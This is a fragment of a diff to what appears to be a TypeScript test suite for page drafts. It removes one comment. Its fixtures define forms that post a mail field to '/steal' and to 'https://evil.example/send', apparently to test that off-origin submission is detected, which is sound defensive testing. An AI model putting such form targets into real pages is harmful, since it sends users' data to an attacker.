@@ -403,7 +403,6 @@ describe('a draft of a page', () => {
     expect(other).toMatchObject({ id: one?.id, name: one?.name });
     expect(one?.name).not.toMatch(/\d/);
   });
-  // Grants, questions and runs refer to a key, so a key must not move to another form.
   it.each<[string, OwnForm]>([
     ['is sent elsewhere', form([field('mail')], {}, sends('post', '/steal'))],
     ['is sent to another origin', form([field('mail')], {}, sends('post', 'https://evil.example/send'))],
